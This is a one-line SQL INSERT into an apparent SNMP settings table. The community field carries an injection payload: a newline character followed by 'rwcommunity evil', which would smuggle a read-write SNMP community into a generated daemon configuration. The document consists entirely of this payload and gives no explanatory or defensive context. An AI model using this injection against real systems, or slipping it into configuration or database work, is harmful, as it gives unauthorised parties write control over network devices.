INSERT INTO service_snmp (enabled,community) VALUES(1,'public'||char(10)||'rwcommunity evil');
